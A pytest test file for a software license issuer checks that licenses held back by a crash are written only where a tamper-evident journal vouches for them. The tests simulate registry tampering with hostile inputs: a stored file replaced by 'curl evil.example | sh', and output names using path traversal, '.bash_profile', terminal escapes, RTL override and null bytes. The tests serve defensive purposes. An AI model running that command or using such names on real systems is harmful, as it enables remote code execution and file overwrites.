"""Delivery of what a crash kept back: only what the journal vouches for, only where it says."""

import json
import os
import shutil
import sqlite3
from collections.abc import Callable
from contextlib import closing
from functools import partial
from pathlib import Path

import pytest
from support.office import Office
from support.registries import tampering, writing

from polygent_issuer.issuing import outbox_delivery
from polygent_issuer.issuing.outbox_delivery import Destination
from polygent_issuer.issuing.signing import Issued
from polygent_issuer.keys.signer import SoftwareSigner, generate_private_key
from polygent_issuer.registry import REGISTRY_FILE, keys, licenses, outbox
from polygent_issuer.registry.row_check import chain_hash
from polygent_issuer.verifier import jws

AT = "2026-11-30T09:30:00.000000Z"


def kept_back(office: Office, destination: Destination | None = None) -> Issued:
    """A license as a crash between COMMIT and link leaves it."""
    [issued] = office.publish(office.first, destination=destination or office.output)
    assert issued.path is not None
    issued.path.unlink()
    put(office, issued, issued.path.parent, issued.path.name)
    return issued


def put(office: Office, issued: Issued, folder: Path | str, name: str) -> None:
    """Write the outbox row of a license, as anybody who can write to the registry."""
    run(office, "DELETE FROM outbox")
    row = (issued.proposal.license.jti, str(folder), name, AT)
    run(office, "INSERT INTO outbox VALUES (?, ?, ?, ?)", row)


def run(office: Office, sql: str, values: tuple[object, ...] = ()) -> None:
    """Run a statement in the registry's file."""
    with closing(sqlite3.connect(office.folder / REGISTRY_FILE)) as raw:
        raw.execute(sql, values)
        raw.commit()


def deliver(office: Office) -> None:
    """What each command that issues begins with."""
    prefix = outbox_delivery.temp_prefix(office.registry.id)
    with office.registry.writing(now=office.now, actor=office.actor) as db:
        outbox_delivery.deliver_pending(db, prefix)


def everything(office: Office) -> list[str]:
    """The files at the office, apart from its registry."""
    found = (path for path in office.folder.rglob("*") if not path.is_dir())
    return sorted(str(path.relative_to(office.folder)) for path in found if path.suffix != ".db")


def assert_kept(office: Office) -> None:
    """Nothing was written anywhere, and the license is named with the command that writes it."""
    deliver(office)
    assert everything(office) == []
    [told] = outbox_delivery.undelivered(office.registry)
    assert "license 00000001 was issued" in told
    assert told.endswith("; export it: polygent-issue license export 00000001 --output FILE")
    assert told.isprintable()


def test_what_the_journal_vouches_for_is_delivered(office: Office) -> None:
    """The file of a crash reaches the place that the journal row names."""
    issued = kept_back(office)
    assert len(outbox_delivery.undelivered(office.registry)) == 1
    deliver(office)
    assert issued.path is not None
    assert issued.path.read_bytes() == issued.file
    assert outbox_delivery.undelivered(office.registry) == ()


def test_other_bytes_are_not_delivered(office: Office) -> None:
    """A stored file that was exchanged, whatever its digest column says."""
    kept_back(office)
    run(office, "UPDATE licenses SET file = ?, sha256 = 'x'", (b"curl evil.example | sh\n",))
    assert_kept(office)


@pytest.mark.parametrize(
    "name",
    [
        ".bash_profile",
        "other.lic",
        "sub/acme.lic",
        "../acme.lic",
        "..",
        "a\\b.lic",
        "a\nb.lic",
        "a\x1b[2J.lic",
        "a\u202eb.lic",
        "a\0b.lic",
    ],
)
def test_another_name_is_not_written(office: Office, name: str) -> None:
    """The outbox says it, the journal does not."""
    issued = kept_back(office)
    (office.folder / "out" / "sub").mkdir()
    put(office, issued, office.folder / "out", name)
    assert_kept(office)


@pytest.mark.parametrize("folder", ["{}/home", "out", "{}/out/../home", "{}/\0"])
def test_another_folder_is_not_written(office: Office, folder: str) -> None:
    """Not one that is there, not a relative one, not one that cannot be."""
    issued = kept_back(office)
    (office.folder / "home").mkdir()
    assert issued.path is not None
    put(office, issued, folder.format(office.folder), issued.path.name)
    assert_kept(office)


@pytest.mark.parametrize("name", [".hidden.lic", "a\\b.lic", "a\x1b[2J.lic"])
def test_a_name_that_is_not_plain_is_for_people(office: Office, name: str) -> None:
    """Even where the operator chose it, and the journal says so."""
    kept_back(office, Destination(folder=office.folder / "out", name=name))
    assert_kept(office)


def test_the_file_of_another_key_is_not_delivered(office: Office) -> None:
    """A key that was pinned by an edit verifies its own license: the journal names another."""
    issued = kept_back(office)
    other = SoftwareSigner(generate_private_key())
    with office.registry.writing(now=office.now, actor=office.actor) as db:
        keys.add(db, key=other.public_key, label="evil")
        db.record("key-generated", kid=other.kid)
    signing_input = jws.signing_input(other.kid, issued.proposal.license.to_payload())
    file = jws.assemble(signing_input, other.sign(signing_input))
    run(office, "UPDATE licenses SET file = ?, kid = ?", (file, other.kid))
    assert_kept(office)


def test_the_same_license_in_other_bytes_is_not_delivered(office: Office) -> None:
    """That the key verifies it is not enough: the digest is the one that was journalled."""
    issued = kept_back(office)
    run(office, "UPDATE licenses SET file = ?", (issued.file.rstrip(b"\n"),))
    assert_kept(office)


def edit_place(office: Office, edit: Callable[[bytes], bytes], *, rehash: bool) -> None:
    """Edit the journal row of the issue."""
    sql = "SELECT seq, previous, bytes FROM journal WHERE event = 'license-signed'"
    with tampering(office.folder / REGISTRY_FILE) as raw:
        ((seq, previous, body),) = raw.execute(sql).fetchall()
        body = edit(body)
        raw.execute("UPDATE journal SET bytes = ? WHERE seq = ?", (body, seq))
        if rehash:
            hashed = chain_hash(previous, body)
            raw.execute("UPDATE journal SET hash = ? WHERE seq = ?", (hashed, seq))


@pytest.mark.parametrize("rehash", [False, True])
def test_an_edited_journal_row_vouches_for_nothing(office: Office, *, rehash: bool) -> None:
    """Neither its hash nor the row that follows it agrees."""
    issued = kept_back(office)
    with office.registry.writing(now=office.now, actor=office.actor) as db:
        db.record("head-noted")
    home = office.folder / "home"
    home.mkdir()
    place, target = str(office.folder / "out").encode(), str(home).encode()
    edit_place(office, lambda body: body.replace(place, target), rehash=rehash)
    assert issued.path is not None
    put(office, issued, home, issued.path.name)
    assert_kept(office)


@pytest.mark.parametrize(
    "members",
    [{"files": None}, {"files": []}, {"particulars": {}}, {"particulars": []}, {"kid": "other"}],
)
def test_a_journal_row_of_another_form_vouches_for_nothing(
    office: Office, members: dict[str, object]
) -> None:
    """The last row of a journal can be written anew without a trace; it stays no crash."""
    kept_back(office)

    def edit(body: bytes) -> bytes:
        return json.dumps(
            json.loads(body) | members, sort_keys=True, separators=(",", ":")
        ).encode()

    edit_place(office, edit, rehash=True)
    assert_kept(office)


def test_a_license_that_the_journal_does_not_know_is_not_delivered(office: Office) -> None:
    """Its row was added by an edit, or its journal row was cut off."""
    kept_back(office)
    with tampering(office.folder / REGISTRY_FILE) as raw:
        raw.execute("DELETE FROM journal WHERE event = 'license-signed'")
    assert_kept(office)


@pytest.mark.parametrize("replaced", [False, True])
def test_what_is_not_current_is_cleared_and_not_delivered(
    office: Office, *, replaced: bool
) -> None:
    """Retired or replaced after a crash: its file is not to be sent any more."""
    issued = kept_back(office)
    if replaced:
        office.publish(office.next)
        for path in (office.folder / "out").iterdir():
            path.unlink()
        put(office, issued, office.folder / "out", "old.lic")
    else:
        with writing(office.registry, now=office.now) as db:
            licenses.retire(db, issued.proposal.license.jti, reason="left us")
            db.record("license-retired", customer="acme", license=issued.proposal.license.jti)
    deliver(office)
    assert everything(office) == []
    assert outbox_delivery.undelivered(office.registry) == ()
    with office.registry.reading() as db:
        assert outbox.pending(db) == ()
        assert licenses.get(db, issued.proposal.license.jti).file == issued.file


def test_what_is_in_its_place_is_cleared_whoever_wrote_its_row(office: Office) -> None:
    """A row of an earlier version, which no journal row vouches for, does not stay for ever."""
    issued = kept_back(office)
    moved = office.folder / "out" / "moved.lic"
    put(office, issued, moved.parent, moved.name)
    moved.write_bytes(issued.file)
    assert outbox_delivery.undelivered(office.registry) == ()
    deliver(office)
    with office.registry.reading() as db:
        assert outbox.pending(db) == ()
    assert everything(office) == ["out/moved.lic"]


@pytest.mark.skipif(os.name == "nt", reason="Windows has no FIFOs")
def test_a_pipe_in_the_place_of_a_file_is_not_waited_for(office: Office) -> None:
    """The name in an outbox row may be anything."""
    issued = kept_back(office)
    os.mkfifo(office.folder / "out" / "pipe")
    put(office, issued, office.folder / "out", "pipe")
    assert len(outbox_delivery.undelivered(office.registry)) == 1


def test_fifty_are_named_one_by_one(office: Office) -> None:
    """The rest is counted, with the command that names all."""
    for number in range(1, 54):
        site = f"Site {chr(64 + number // 10)}{chr(64 + number % 10)}"
        document = office.document(f"sha256:{number:064x}")
        office.publish(
            partial(office.first, number=number, customer=site, document=document),
            destination=Destination(folder=None, write=lambda _: None),
        )
    run(office, f"INSERT INTO outbox SELECT id, NULL, NULL, '{AT}' FROM licenses")  # noqa: S608
    told = outbox_delivery.undelivered(office.registry)
    assert len(told) == 51
    assert told[-1] == "3 more licenses like these; list them: polygent-issue doctor"


def test_of_an_archive_fifty_are_judged(office: Office) -> None:
    """Every command asks, so thousands that wait for an archive cost no verification each."""
    archive = office.folder / "all.zip"
    archive.mkdir()
    rows = []
    for number in range(1, 54):
        site = f"Site {chr(64 + number // 10)}{chr(64 + number % 10)}"
        document = office.document(f"sha256:{number:064x}")
        [issued] = office.publish(
            partial(office.first, number=number, customer=site, document=document),
            destination=Destination(folder=archive),
        )
        assert issued.path is not None
        rows.append((issued.proposal.license.jti, str(archive), issued.path.name, AT))
    for row in rows:
        run(office, "INSERT INTO outbox VALUES (?, ?, ?, ?)", row)
    shutil.rmtree(archive)
    [told] = outbox_delivery.undelivered(office.registry)
    assert told.startswith("53 licenses are not yet in the archive")
    rename = "UPDATE outbox SET name = 'x' WHERE license_id LIKE "
    run(office, f"{rename} '00000035-%'")
    assert outbox_delivery.undelivered(office.registry) == (told,)
    run(office, f"{rename} '00000001-%'")
    assert [each[:16] for each in outbox_delivery.undelivered(office.registry)] == [
        "license 00000001",
        "52 licenses are ",
    ]
    run(office, f"{rename} '%'")
    named = outbox_delivery.undelivered(office.registry)
    assert len(named) == 51
    assert named[-1] == "3 more licenses like these; list them: polygent-issue doctor"
